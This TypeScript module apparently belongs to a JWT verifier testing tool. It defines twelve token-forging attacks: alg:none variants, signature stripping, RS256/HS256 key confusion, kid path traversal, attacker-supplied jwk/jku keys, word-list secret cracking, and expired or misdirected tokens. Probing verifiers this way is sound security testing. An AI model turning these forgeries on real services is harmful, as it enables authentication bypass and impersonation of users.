import type { Attack, Target } from "./attack";
import { crack, encode, mallory, open, signWith } from "./craft";

const now = () => Math.floor(Date.now() / 1000);

/** Whatever its algorithm is, the token is rewritten for HS256 and signed with something that is no secret. */
function confused(target: Target, kid: string | undefined, secret: string): string {
  const { header, claims } = open(target.sample);
  return signWith(secret, { ...header, alg: "HS256", kid }, mallory(claims));
}

type Change = { header?: object; claims?: object };

/** One token that the rightful issuer signed, but not for here and now. */
function misused(id: string, title: string, variant: string, change: () => Change): Attack {
  return { id, title, tokens: async (target) => [{ variant, token: await target.issued(change()) }] };
}

/** The twelve. Each is a way in that some verifier has left open. */
export const attacks: readonly Attack[] = [
  {
    id: "signature-stripped",
    title: "Signature stripped",
    tokens: async ({ sample }) => {
      const { claims, parts } = open(sample);
      return [{ variant: "no third part", token: `${parts[0]}.${encode(mallory(claims))}.` }];
    },
  },
  {
    id: "alg-none",
    title: "alg: none, in four spellings",
    tokens: async ({ sample }) => {
      const { header, claims, parts } = open(sample);
      return ["none", "None", "NONE", "nOnE"].map((alg) => ({
        variant: alg,
        token: `${encode({ ...header, alg })}.${encode(mallory(claims))}.${parts[2]}`,
      }));
    },
  },
  {
    id: "altered-payload",
    title: "Payload altered under a good signature",
    tokens: async ({ sample }) => {
      const { claims, parts } = open(sample);
      return [{ variant: "name and role", token: `${parts[0]}.${encode(mallory(claims))}.${parts[2]}` }];
    },
  },
  {
    id: "algorithm-confusion",
    title: "RS256/HS256 confusion, the public key as secret",
    tokens: async (target) =>
      target.publicTexts.map(({ name, text }) => ({
        variant: name,
        token: confused(target, undefined, text),
      })),
  },
  {
    id: "kid",
    title: "kid: another file, another property",
    tokens: async (target) => [
      ...target.publicTexts.map(({ text }) => ({
        variant: "../public/key.pem",
        token: confused(target, "../public/key.pem", text),
      })),
      { variant: "constructor", token: confused(target, "constructor", String(Object)) },
    ],
  },
  {
    id: "own-key",
    title: "jwk and jku: the attacker's own key",
    tokens: async ({ sample }, { sign, publicJwk, jwksUrl }) => {
      const claims = mallory(open(sample).claims);
      const header = { typ: "JWT", alg: "RS256" };
      return [
        { variant: "jwk", token: sign({ ...header, jwk: publicJwk }, claims) },
        { variant: "jku", token: sign({ ...header, jku: jwksUrl }, claims) },
      ];
    },
  },
  {
    id: "weak-secret",
    title: "A secret out of a word list",
    tokens: async (target, { words }) => {
      const sample = await target.issued({ header: { alg: "HS256" } });
      const { header, claims } = open(sample);
      const secret = header.alg === "HS256" ? crack(sample, words) : null;
      return secret === null
        ? []
        : [{ variant: `the secret is "${secret}"`, token: signWith(secret, header, mallory(claims)) }];
    },
  },
  misused("expired", "Expired", "an hour ago", () => ({
    claims: { iat: now() - 7_200, exp: now() - 3_600 },
  })),
  misused("not-yet-valid", "Not yet valid", "in an hour", () => ({ claims: { nbf: now() + 3_600 } })),
  misused("wrong-audience", "For another", "aud", () => ({ claims: { aud: "another-audience" } })),
  misused("wrong-issuer", "From another", "iss", () => ({ claims: { iss: "another-issuer" } })),
  misused("wrong-type", "For another purpose", "typ", () => ({ header: { typ: "password-reset+jwt" } })),
];
